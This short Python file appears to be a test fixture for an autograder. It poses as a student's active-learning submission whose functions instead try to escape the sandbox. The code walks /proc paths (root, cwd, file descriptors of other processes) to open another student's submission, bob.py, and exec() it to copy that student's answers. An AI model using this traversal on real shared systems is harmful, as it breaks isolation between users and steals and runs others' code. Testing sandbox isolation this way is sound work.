"""Leaves by the root, the working folder and the open files of other processes."""

import os


def attack(probabilities):
    for number in ["1", "self", "thread-self", str(os.getppid()), "@PID@"]:
        for way in ("root", "cwd", "/".join(("root", "proc", "1", "root")), *(f"fd/{file}" for file in range(20))):
            try:
                with open(f"/proc/{number}/{way}@COURSE@/submissions/bob.py") as file:
                    space = {}
                    exec(file.read(), space)
                    return space["least_confidence"](probabilities)
            except OSError:
                pass
    return None


def least_confidence(probabilities):
    return attack(probabilities)


def next_query(probabilities, labelled):
    return attack(probabilities)
